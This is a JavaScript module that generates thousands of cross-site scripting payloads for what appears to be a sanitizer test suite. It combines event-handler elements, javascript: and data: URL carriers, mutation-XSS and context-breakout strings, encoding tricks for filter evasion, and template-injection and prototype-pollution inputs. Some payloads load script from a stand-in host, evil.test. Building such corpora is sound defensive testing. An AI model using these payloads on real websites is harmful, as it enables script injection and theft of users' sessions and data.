// Lines that try to run a script, some thousands of them, for payloads.spec.mjs. Composed here: where a script may hide in
// HTML × what makes it run × how it is disguised. A list of somebody else's, one try a line, is taken along when
// RENZAI_PAYLOADS names its file.
import { readFileSync } from "node:fs";

/** What a line calls if it runs. The spec listens for all of them. */
const CALLS = ["fired()", "alert(1)", "confirm`1`", "top.fired()", "self['al'+'ert'](1)"];
const call = (turn) => CALLS[turn % CALLS.length];

/** Elements, with what lets an event happen without anybody's doing. */
const ELEMENTS = [
  "img src=x", "img src=/favicon.svg", "svg", "body", "video src=x", "audio src=x", "video><source src=x", "iframe src=about:blank",
  "input autofocus", "textarea autofocus", "select autofocus", "button autofocus", "a href=# autofocus", "details open",
  "marquee", "object data=x", "embed src=x", "link rel=stylesheet href=x", "style", "div tabindex=1 autofocus",
  "math tabindex=1 autofocus", "x contenteditable autofocus", "svg><image href=x", "svg><animate attributeName=x dur=1s",
  "svg><set attributeName=x begin=0s", "form", "keygen autofocus", "picture><img src=x", "template", "noscript",
];
const EVENTS = [
  "error", "load", "focus", "focusin", "toggle", "start", "begin", "end", "loadstart", "animationstart", "animationend",
  "transitionend", "pageshow", "hashchange", "message", "resize", "scroll", "scrollend", "pointerenter", "pointerrawupdate",
  "mouseover", "click", "auxclick", "contextmenu", "wheel", "copy", "paste", "drop", "dragstart", "input", "beforeinput",
  "change", "invalid", "submit", "reset", "search", "select", "keydown", "beforematch", "beforetoggle", "canplay",
  "securitypolicyviolation",
];

const QUOTES = ["'", '"', "`"];

const SCHEMES = [
  "javascript:", "JaVaScRiPt:", "java\tscript:", "java&Tab;script:", "java&NewLine;script:", "&#106;avascript:", "&#x6A;avascript:",
  "javascript&colon;", "\u0001javascript:", "%6Aavascript:", "view-source:javascript:", "javascript://%0A", "vbscript:",
  "livescript:", "feed:javascript:", "data:text/html,<script>", "data:text/html;base64,PHNjcmlwdD5maXJlZCgpPC9zY3JpcHQ+#",
  "data:image/svg+xml,<svg onload=", "blob:javascript:", "jar:javascript:", "filesystem:javascript:", "//evil.test/#",
];
const CARRIERS = [
  (url) => `<a href="${url}">x</a>`, (url) => `<a href='${url}'>x`, (url) => `<iframe src="${url}">`, (url) => `<object data="${url}">`,
  (url) => `<embed src="${url}">`, (url) => `<form action="${url}"><button>x`, (url) => `<button formaction="${url}">x`,
  (url) => `<svg><a xlink:href="${url}"><text>x`, (url) => `<math href="${url}">x`, (url) => `<area href="${url}">`,
  (url) => `<base href="${url}">`, (url) => `<meta http-equiv=refresh content="0;url=${url}">`, (url) => `<link rel=import href="${url}">`,
  (url) => `<img src="${url}">`, (url) => `<video poster="${url}">`, (url) => `<body background="${url}">`, (url) => `<svg><use href="${url}">`,
  (url) => `<div style="background:url(${url})">`, (url) => `<style>@import '${url}'</style>`, (url) => `[x](${url})`, (url) => `![x](${url})`,
  (url) => `<${url}>`, (url) => `[x]: ${url}`, (url) => url, (url) => `https://shop.example/?to=${url}`, (url) => `<iframe srcdoc="<a href='${url}'>">`,
];

const CORES = [
  "<script>CALL</script>", "<script src=//evil.test/x.js></script>", "<img src=x onerror=CALL>", "<svg onload=CALL>", "<svg/onload=CALL//",
  "<details open ontoggle=CALL>", "<input autofocus onfocus=CALL>", "<iframe srcdoc='<script>parent.CALL</script>'>", "<video src=x onerror=CALL>",
  "<math><mtext><table><mglyph><style><img src=x onerror=CALL>", "<svg><style><img src=x onerror=CALL></style>",
  "<noscript><p title='</noscript><img src=x onerror=CALL>'>", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=CALL>",
  "<a href=javascript:CALL>x</a>", "<template><script>CALL</script></template>", "<svg><script href=data:,CALL />", "<svg><foreignObject><img src=x onerror=CALL>",
  "<xss style=animation-name:x onanimationstart=CALL>", "<img src=x onerror=\"CALL\">", "<img src=x onerror='CALL'>",
];
const OPENERS = [
  "", "\">", "'>", "`>", "</title>", "</textarea>", "</script>", "</style>", "</noscript>", "</template>", "</svg>", "</select>", "-->", "--!>",
  "]]>", "*/", "?>", "%>", "}}", "\\\">", "<!--><", "<![CDATA[", "<x ", "<p title=\"</p>", "\u2028", "+ADw-", "\">'>`>",
];

const entity = (text, base) => [...text].map((c) => (base === 16 ? `&#x${c.codePointAt(0).toString(16)};` : `&#${c.codePointAt(0)};`)).join("");
const hex = (c, width) => c.charCodeAt(0).toString(16).padStart(width, "0");
const DISGUISES = [
  (t) => t.toUpperCase(), (t) => [...t].map((c, at) => (at % 2 ? c.toUpperCase() : c)).join(""), (t) => encodeURIComponent(t),
  (t) => encodeURIComponent(encodeURIComponent(t)), (t) => entity(t, 10), (t) => entity(t, 16), (t) => t.replace(/</g, "&lt;").replace(/>/g, "&gt;"),
  (t) => t.replace(/[<>'"]/g, (c) => `\\u${hex(c, 4)}`), (t) => t.replace(/[<>'"]/g, (c) => `\\x${hex(c, 2)}`), (t) => t.replace(/</g, "＜").replace(/>/g, "＞"),
  (t) => t.replace(/ /g, "/"), (t) => t.replace(/ /g, "\t"), (t) => t.replace(/ /g, "\u000c"), (t) => t.replace(/<script/g, "<scr<script>ipt"),
  (t) => t.replace(/=/g, " = "), (t) => t.replace(/</g, "<\u0001"), (t) => t.replace(/</g, "<<"), (t) => `${t}`.replace(/>/g, ""),
];

/** Places in a script, a template or a style, where text that is put in would go on as code. */
const WITHIN = [
  "';CALL//", "\";CALL//", "\\';CALL//", "</script><script>CALL//", "`;CALL//", "${CALL}", "{{CALL}}", "{{constructor.constructor('CALL')()}}", "[[CALL]]",
  "<%= CALL %>", "#{CALL}", "{%CALL%}", "@(CALL)", "{{{CALL}}}", "{CALL}", "-CALL-", "'-CALL-'", "\"-CALL-\"", "\\u0027;CALL//", "};CALL;{", "*/CALL/*",
  "x:expression(CALL)", "<div style=width:expression(CALL)>", "<div style=-moz-binding:url(//evil.test)>", "';\u2028CALL//", "\\\\';CALL//",
  "__proto__[innerHTML]=<img src=x onerror=CALL>", "{\"__html\":\"<img src=x onerror=CALL>\"}", "{\"__proto__\":{\"x\":\"CALL\"}}", "eval('CALL')", "setTimeout('CALL')",
];

function* composed() {
  for (const [place, element] of ELEMENTS.entries()) {
    for (const [at, event] of EVENTS.entries()) yield `<${element} on${event}=${call(place + at)}>`;
    for (const quote of QUOTES) yield `<${element} onerror=${quote}${call(place)}${quote} onload=${quote}${call(place)}${quote}>`;
  }
  for (const [place, scheme] of SCHEMES.entries()) {
    for (const carrier of CARRIERS) yield carrier(`${scheme}${call(place)}`);
  }
  for (const [place, core] of CORES.entries()) {
    for (const opener of OPENERS) {
      yield opener + core.replace("CALL", call(place));
      yield opener + core.replace("CALL", call(place)).replace(/<(\/?\w+)/g, (tag) => tag.toUpperCase());
    }
    for (const disguise of DISGUISES) yield disguise(core.replace("CALL", call(place)));
  }
  for (const within of WITHIN) for (const called of CALLS) yield within.replace("CALL", called);
}

const others = process.env.RENZAI_PAYLOADS ? readFileSync(process.env.RENZAI_PAYLOADS, "utf8").split(/\r?\n/) : [];

/** All lines, each once, without the blanks that any text field takes off. */
export const PAYLOADS = [...new Set([...composed(), ...others].map((line) => line.trim()).filter(Boolean))];

/** Those that are an address by themselves, for doors that lead somewhere. */
export const ADDRESSES = SCHEMES.flatMap((scheme) => CALLS.map((called) => scheme + called));

/** `lines` in texts of at most `most` characters, a line feed between two. */
export function pages(lines, most) {
  const all = [""];
  for (const line of lines.filter((line) => line.length <= most)) {
    const longer = all.at(-1) ? `${all.at(-1)}\n${line}` : line;
    if (longer.length <= most) all[all.length - 1] = longer;
    else all.push(line);
  }
  return all;
}
